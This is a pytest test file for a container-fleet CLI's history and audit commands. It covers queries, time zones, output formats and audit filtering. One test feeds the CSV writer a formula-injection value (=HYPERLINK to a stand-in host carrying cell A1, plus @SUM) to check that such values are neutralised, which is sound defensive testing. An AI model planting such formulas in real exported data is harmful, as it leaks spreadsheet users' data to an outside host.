"""What people ask the history at the command line, over a real server, and in which forms it answers."""

import csv
import io
import json
import time
from datetime import UTC, datetime, timedelta
from uuid import UUID

import pytest
from sqlalchemy import insert

from fleet.cli import listing
from fleet.cli.asking import ThisMachine, is_term, understood
from fleet.cli.main import take_any_sign
from fleet.cli.session import FORMATS
from fleet.history.registries import tags
from fleet.history.tables import facts as fact_tables
from tests.cli.conftest import Fleet
from tests.controller.centre import NEW, OLD, Centre, ScriptedHost, nginx
from tests.web.test_routes import IMAGE, carry_out

pytestmark = [pytest.mark.redis, pytest.mark.usefixtures("served")]


@pytest.fixture
def updated(centre: Centre, web1: ScriptedHost, fleet: Fleet) -> ScriptedHost:
    """A host whose one container was updated."""
    tags.record_resolved(centre.db, IMAGE, NEW, "https://registry-1.docker.io")
    fleet("update", "web-1", "--no-check", "--detach")
    carry_out(centre, web1)
    return web1


class TestQueries:
    @pytest.mark.parametrize(
        ("words", "found"),
        [
            (("host:web-1",), 1),
            (("host:web-1 -outcome:failure since:1h",), 1),
            (("-host:web-1",), 0),
            (("-outcome:failure", "host:web-*"), 1),
            (("ls", "nginx"), 1),
            (("ls", '-"nginx"', "-o", "table"), 0),
            (("--host", "web-1", "outcome:updated"), 1),
            (("since:today[Asia/Tokyo],",), None),
            (("until:1990-01-01",), 0),
        ],
    )
    def test_a_query_may_stand_with_options_and_with_a_minus(
        self, fleet: Fleet, updated: ScriptedHost, words: tuple[str, ...], found: int | None
    ) -> None:
        ran = fleet("history", *words)
        if found is None:
            assert (ran.code, ran.err.startswith("cannot understand the query")) == (1, True)
        else:
            assert (ran.code, max(0, len(ran.lines) - 1)) == (0, found), ran.err

    def test_a_date_is_of_the_season_in_which_it_lies(self, monkeypatch: pytest.MonkeyPatch) -> None:
        """Not of that in which one asks: in Paris the summer is two hours ahead of UTC, the winter one."""
        monkeypatch.setenv("TZ", "Europe/Paris")
        time.tzset()
        try:
            asked = understood(("since:2026-07-25", "until:2026-11-25"))
            summer = ThisMachine().fromutc(datetime(2026, 7, 24, 22, tzinfo=UTC))
            there = (summer.isoformat(), summer.tzname())
        finally:
            monkeypatch.undo()
            time.tzset()
        assert asked == "since:2026-07-24T22:00:00+00:00 until:2026-11-24T23:00:00+00:00"
        assert there == ("2026-07-25T00:00:00+02:00", "CEST")

    def test_a_mistake_is_told_before_anything_is_sent(self, fleet: Fleet, monkeypatch: pytest.MonkeyPatch) -> None:
        monkeypatch.setenv("FLEET_SOCKET", "/nowhere")
        ran = fleet("history", "host:web-1 mirorr:x")
        assert (ran.code, ran.err.count("\n")) == (1, 1)
        assert "character 12: there is no word mirorr; did you mean mirror?" in ran.err

    def test_a_name_without_its_word_is_told_how_it_is_asked_for(self, fleet: Fleet) -> None:
        ran = fleet("history", "web-1")
        assert ran.code == 2
        assert "No such command 'web-1'; ask for host:web-1 or image:web-1, or for text: ls web-1." in ran.err

    def test_a_word_that_is_no_term_is_a_command(self) -> None:
        assert not is_term("shwo")
        assert all(map(is_term, ("host:x", '"text"', "two words")))


class TestForms:
    def test_json_lines_and_csv_hold_what_the_api_says(self, fleet: Fleet, updated: ScriptedHost) -> None:
        (line,) = fleet("history", "ls", "-o", "jsonl", "--all").lines
        (row,) = csv.DictReader(io.StringIO(fleet("history", "ls", "-o", "csv", "--all").out))
        (whole,) = json.loads(fleet("history", "ls", "-o", "json").out)["outcomes"]
        assert json.loads(line) == whole
        assert list(row) == list(whole)
        assert (row["host"], row["old_digest"], row["new_digest"]) == ("web-1", OLD, NEW)

    def test_a_spreadsheet_calculates_nothing_of_what_a_host_wrote(self, capsys: pytest.CaptureFixture[str]) -> None:
        reason = '=HYPERLINK("http://x/?"&A1, "a,b")\nsecond line'
        document = {"reason": reason, "by": "@SUM(1)", "down": -5, "plain": "a=b", "diff": ["=1"], "none": None}
        listing._write_csv([document], list(document))
        (row,) = csv.DictReader(io.StringIO(capsys.readouterr().out))
        assert row == {
            "reason": f"'{reason}", "by": "'@SUM(1)", "down": "-5", "plain": "a=b", "diff": '["=1"]', "none": ""
        }  # fmt: skip

    def test_one_outcome_is_a_line_of_json_or_of_csv_with_its_pull(self, fleet: Fleet, updated: ScriptedHost) -> None:
        (listed,) = fleet("history", "ls", "-o", "jsonl").lines
        id = json.loads(listed)["id"]
        (line,) = fleet("history", "show", id, "-o", "jsonl").lines
        (row,) = csv.DictReader(io.StringIO(fleet("-o", "csv", "history", "show", id).out))
        whole = json.loads(fleet("history", "show", id, "-o", "json").out)
        assert json.loads(line) == {**whole["update"], "pull": whole["pull"]}
        assert (row["id"], json.loads(row["pull"])) == (id, whole["pull"])

    @pytest.mark.parametrize("words", [("history", "ls"), ("audit",)], ids=" ".join)
    def test_a_form_may_stand_before_the_name_and_after_it(
        self, fleet: Fleet, updated: ScriptedHost, words: tuple[str, ...]
    ) -> None:
        """That every list takes every form is looked at in ``test_lists``."""
        for form in FORMATS[:-1]:
            after, before = fleet(*words, "-o", form), fleet("-o", form, *words)
            assert (after.code, before.code) == (0, 0), after.err
            assert after.out == before.out

    def test_what_is_no_list_refuses_the_forms_of_lists(self, fleet: Fleet) -> None:
        refused = fleet("-o", "csv", "version")
        assert (refused.code, refused.err) == (
            1,
            "cannot print this as csv: it is no list; choose -o table or -o json or -o yaml\n",
        )

    def test_wide_shows_every_column(self, fleet: Fleet, updated: ScriptedHost) -> None:
        assert "REASON" in fleet("history", "ls", "-o", "wide").lines[0]

    def test_everything_is_only_printed_as_it_comes(self, fleet: Fleet) -> None:
        ran = fleet("history", "ls", "--all")
        assert (ran.code, "-o jsonl" in ran.err) == (1, True)

    def test_a_sign_that_the_output_cannot_hold_is_a_question_mark(self) -> None:
        written = io.BytesIO()
        stream = io.TextIOWrapper(written, encoding="latin-1")
        take_any_sign(stream)
        print("grün …", file=stream, flush=True)
        assert written.getvalue() == "grün ?\n".encode("latin-1")
        take_any_sign(None)

    def test_pictures_are_for_terminals(self, monkeypatch: pytest.MonkeyPatch) -> None:
        assert (listing.sparkline([1, 2]), listing.bar(1, 2)) == ("", "")
        monkeypatch.setattr(listing, "_draws", lambda: True)
        assert listing.sparkline([0, 1, 4, 8]) == "·▁▄█"
        assert listing.bar(1, 2) == "█" * 10
        assert listing.bar(0, 2) == ""


class TestQuestions:
    def test_what_changed_and_the_way_back_are_shown(self, fleet: Fleet, updated: ScriptedHost) -> None:
        changed = fleet("history", "changes", "web-1", "--since", "1h")
        assert changed.lines[1].split()[:2] == ["web-1", "web"]
        chain = fleet("history", "chain", "web-1", "web")
        assert len(chain.lines) == 2
        assert OLD in chain.err or "fleet undo web-1 web" in chain.err

    def test_what_went_to_and_fro_is_told_as_such(self, fleet: Fleet, centre: Centre, updated: ScriptedHost) -> None:
        updated.snapshot(nginx(digest=NEW))
        centre.turn()
        undone = fleet("undo", "web-1", "web", "--detach")
        assert (
            f"warning: nginx:1 has {NEW[:19]} still; the next update brings that again, unless: fleet skip nginx:1"
            in undone.err
        )
        carry_out(centre, updated)
        assert f"{OLD[7:19]} again, after 2 changes" in fleet("history", "changes", "web-1").out

    def test_who_runs_is_a_list_or_a_matrix(self, fleet: Fleet, updated: ScriptedHost) -> None:
        listed = fleet("history", "who-runs", "nginx")
        assert listed.lines[1].split()[:2] == ["web-1", "web"]
        matrix = fleet("history", "who-runs", "nginx", "--matrix")
        assert matrix.lines[0].split()[0] == "HOST"
        assert matrix.lines[1].split() == ["web-1", "web"]
        assert "no host runs" in fleet("history", "who-runs", "redis").err

    def test_mirrors_durations_and_comparison_answer(self, fleet: Fleet, updated: ScriptedHost) -> None:
        assert fleet("history", "durations", "-outcome:failure").lines[0].startswith("PHASE")
        for words in (("mirrors",), ("compared",), ("mirrors", "nowhere", "--since", "yesterday")):
            assert fleet("history", *words).code == 0
        refused = fleet("history", "mirrors", "--since", "soon")
        assert (refused.code, "expected something like 2h" in refused.err) == (1, True)

    def test_the_audit_is_asked_for_a_time(self, fleet: Fleet, web1: ScriptedHost, centre: Centre) -> None:
        with centre.db.writing() as connection:
            for hours, apart in ((2, 5), (50, -5)):
                at = datetime.now(UTC) - timedelta(hours=hours)
                # As an act of then has it: its id is its time, and the database's clock is some minutes apart.
                id = UUID(int=int(at.timestamp() * 1000) << 80 | 7 << 76 | 0b10 << 62)
                act = {
                    "id": id,
                    "who": f"person:{hours}h",
                    "door": "socket",
                    "action": "x",
                    "subject": "y",
                    "details": {},
                }
                connection.execute(insert(fact_tables.audit), {**act, "at": at + timedelta(minutes=apart)})

        def asked(*words: str) -> list[str]:
            return sorted(fleet("audit", "--no-headers", "--columns", "who", *words).lines)

        assert asked("--since", "1h") == ["person:test"]
        assert asked("--since", "3h") == ["person:2h", "person:test"]
        assert asked("--until", "1h") == ["person:2h", "person:50h"]
        assert asked("--since", "118m", "--until", "1h") == ["person:2h"]
        assert asked("--until", "3001m") == ["person:50h"]
        assert asked("--since", "3d", "--until", "1d") == ["person:50h"]
        assert asked("--since", "3d", "--who", "2h") == ["person:2h"]
        assert len(asked("--since", "0001-01-01T00:00Z", "--until", "9999-12-31T23:59Z")) == 3
        assert fleet("audit", "--since", "soon").code == 1

    def test_the_audit_is_listed(self, fleet: Fleet, updated: ScriptedHost) -> None:
        listed = fleet("audit", "--action", "host add")
        assert "web-1" in listed.out
        assert "nobody" in fleet("audit", "--who", "stranger").err
